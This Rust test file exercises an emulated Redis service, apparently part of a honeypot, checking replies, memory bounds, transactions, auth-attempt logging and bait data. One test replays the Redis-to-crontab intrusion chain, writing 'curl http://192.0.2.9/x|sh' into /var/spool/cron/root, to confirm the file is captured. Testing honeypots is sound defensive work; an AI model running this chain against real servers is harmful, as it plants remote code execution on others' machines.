//! Conversations with the redis service.

mod compare;

use netsvc_kit::{
    Action, Host, Input, Link, Machine, Out, Serve,
    testing::{converse, host, link, persona, sent, stage},
};
use netsvc_proto::services::redis::SERVICE;
use netsvc_wire::Kind;
use std::sync::Arc;

/// What makes a machine of the service.
fn machine() -> fn(&Arc<Host>, &Link) -> Box<dyn Machine> {
    match SERVICE.serve {
        Serve::Machine(open) => open,
        _ => unreachable!("the service is a machine"),
    }
}

fn talk(settings: &[(&str, &str)], input: &str) -> Vec<Action> {
    let folder = tempfile::tempdir().unwrap();
    let stage = stage(folder.path());
    let host = host(&stage, persona("cache-01"), "redis", settings);
    converse(&SERVICE, &host, &link(6379), &[input.as_bytes()])
}

fn check(settings: &[(&str, &str)], input: &str, expected: &str) {
    assert_eq!(String::from_utf8(sent(&talk(settings, input))).unwrap(), expected, "{input:?}");
}

#[test]
fn values_live_and_types_are_kept_apart() {
    check(
        &[],
        "SET k v\r\nGET k\r\nTYPE k\r\nLPUSH k a\r\n",
        "+OK\r\n$1\r\nv\r\n+string\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n",
    );
    check(
        &[],
        "INCR n\r\nINCRBY n 41\r\nAPPEND n x\r\nINCR n\r\n",
        ":1\r\n:42\r\n:3\r\n-ERR value is not an integer or out of range\r\n",
    );
    check(
        &[],
        "RPUSH l a b c\r\nLRANGE l 0 -2\r\nLPOP l\r\n",
        ":3\r\n*2\r\n$1\r\na\r\n$1\r\nb\r\n$1\r\na\r\n",
    );
    check(
        &[],
        "SET t 1 EX 100\r\nTTL t\r\nPERSIST t\r\nTTL t\r\nTTL none\r\n",
        "+OK\r\n:100\r\n:1\r\n:-1\r\n:-2\r\n",
    );
}

#[test]
fn a_script_that_makes_too_much_fails_as_where_memory_is_short() {
    for line in ["a=a..a", "a={a,a}", "a={x=a,y=a}"] {
        let script = format!("local a='xxxxxxxx' {}return #a", format!("{line} ").repeat(60));
        let said = String::from_utf8(sent(&talk(&[], &format!("EVAL \"{script}\" 0\r\n")))).unwrap();
        assert!(said.starts_with("-ERR user_script:1: not enough memory script: "), "{line}: {said}");
    }
    check(
        &[],
        "EVAL \"local a=ARGV[1] a=a..a a=a..a return {#a,ARGV[2]}\" 0 xy z\r\n",
        "*2\r\n:8\r\n$1\r\nz\r\n",
    );
}

#[test]
fn what_a_command_answers_has_a_bound_though_a_key_is_named_again_and_again() {
    const SHORT: &str = "-OOM command not allowed when used memory > 'maxmemory'.\r\n";
    let word = "w".repeat(60_000);
    for (stored, asked) in [
        ("SETRANGE k 8000000 x".to_owned(), "MGET k k k k k".to_owned()),
        ("SETRANGE k 8000000 x".to_owned(), "BITOP AND d k k k k k".to_owned()),
        (format!("HSET k f {word}"), format!("HMGET k{}", " f".repeat(600))),
        (format!("HSET k f {word}"), "HRANDFIELD k -1000".to_owned()),
        (format!("SADD k {word}"), "SRANDMEMBER k -1000".to_owned()),
        (format!("SADD k {word}"), format!("SUNION{}", " k".repeat(600))),
        (format!("ZADD k 1 {word}"), "ZRANDMEMBER k -1000".to_owned()),
        (format!("ZADD k 1 {word}"), format!("ZUNION 600{}", " k".repeat(600))),
        (format!("RPUSH k {word}"), format!("SORT k BY nosort{}", " GET #".repeat(600))),
        (format!("XADD k * f {word}"), format!("XREAD STREAMS{}{}", " k".repeat(600), " 0".repeat(600))),
    ] {
        let said = String::from_utf8(sent(&talk(&[], &format!("{stored}\r\n{asked}\r\n")))).unwrap();
        assert!(said.ends_with(&format!("\n{SHORT}")), "{asked}: {} bytes", said.len());
    }
    let queued = format!("SETRANGE k 8000000 x\r\nMULTI\r\n{}EXEC\r\n", "GET k\r\n".repeat(20));
    let said = sent(&talk(&[], &queued));
    assert!(said.ends_with(SHORT.as_bytes()) && said.len() < 40 << 20, "{} bytes", said.len());
    check(&[], "SET k v\r\nMGET k k none\r\n", "+OK\r\n*3\r\n$1\r\nv\r\n$1\r\nv\r\n$-1\r\n");
}

#[test]
fn transactions_queue_and_abort() {
    check(
        &[],
        "MULTI\r\nSET a 1\r\nGET a\r\nEXEC\r\n",
        "+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n$1\r\n1\r\n",
    );
    check(
        &[],
        "MULTI\r\nNOPE\r\nEXEC\r\n",
        "+OK\r\n-ERR unknown command 'NOPE', with args beginning with: \r\n-EXECABORT Transaction discarded because of previous errors.\r\n",
    );
}

#[test]
fn a_password_guards_and_every_pair_is_recorded() {
    let actions = talk(&[("password", "s3cret")], "PING\r\nAUTH wrong\r\nAUTH default s3cret\r\nPING\r\n");
    assert_eq!(
        String::from_utf8(sent(&actions)).unwrap(),
        "-NOAUTH Authentication required.\r\n-WRONGPASS invalid username-password pair or user is disabled.\r\n+OK\r\n+PONG\r\n"
    );
    let attempts = actions.iter().filter(|action| matches!(action, Action::Record(Kind::AuthAttempt, _)));
    assert_eq!(attempts.count(), 2);
}

#[test]
fn the_crontab_chain_is_captured_with_its_path() {
    let actions = talk(
        &[],
        "set x \"\\n* * * * * curl http://192.0.2.9/x|sh\\n\"\r\nconfig set dir /var/spool/cron/\r\nconfig set dbfilename root\r\nsave\r\n",
    );
    assert_eq!(sent(&actions), b"+OK\r\n+OK\r\n+OK\r\n+OK\r\n");
    let captured = actions.iter().find_map(|action| match action {
        Action::Capture(Kind::FileCaptured, fields, content) => Some((fields.clone(), content.clone())),
        _ => None,
    });
    let (fields, content) = captured.unwrap();
    assert!(fields.iter().any(|(name, value)| *name == "path" && value == b"/var/spool/cron/root"));
    assert!(content.windows(20).any(|window| window == b"curl http://192.0.2."));
}

/// Two connections to one server, what the second sent first, and what the first gets when it is woken.
fn beside(first: &str, second: &str) -> (String, String) {
    let folder = tempfile::tempdir().unwrap();
    let stage = stage(folder.path());
    let host = host(&stage, persona("cache-01"), "redis", &[]);
    let open = machine();
    let mut machines = [open(&host, &link(6379)), open(&host, &link(6379))];
    let mut out = Out::default();
    machines[0].step(Input::Bytes(first.as_bytes()), &mut out);
    let asked = String::from_utf8(sent(&out.take())).unwrap();
    machines[1].step(Input::Bytes(second.as_bytes()), &mut out);
    out.take();
    machines[0].woken(&mut out);
    (asked, String::from_utf8(sent(&out.take())).unwrap())
}

#[test]
fn what_one_client_does_reaches_another() {
    assert_eq!(
        beside("SUBSCRIBE news\r\n", "PUBLISH news hi\r\n").1,
        "*3\r\n$7\r\nmessage\r\n$4\r\nnews\r\n$2\r\nhi\r\n"
    );
    assert_eq!(
        beside("BLPOP jobs 0\r\nPING\r\n", "RPUSH jobs a\r\n"),
        (String::new(), "*2\r\n$4\r\njobs\r\n$1\r\na\r\n+PONG\r\n".to_owned())
    );
    assert!(beside("MONITOR\r\n", "GET k\r\n").1.ends_with("\"GET\" \"k\"\r\n"));
}

#[test]
fn a_server_without_a_password_holds_something_that_moves() {
    let text = String::from_utf8(sent(&talk(&[], "DBSIZE\r\nHGET config:app db_user\r\n"))).unwrap();
    let count: u32 = text.lines().next().unwrap().trim_start_matches(':').parse().unwrap();
    assert!(count > 80 && text.ends_with("$3\r\napp\r\n"), "{text}");
    let guarded = talk(&[("password", "s3cret")], "AUTH s3cret\r\nDBSIZE\r\n");
    assert_eq!(sent(&guarded), b"+OK\r\n:0\r\n");
    let info = String::from_utf8(sent(&talk(&[], "INFO\r\n"))).unwrap();
    assert!(info.len() > 4800, "{} bytes", info.len());
}
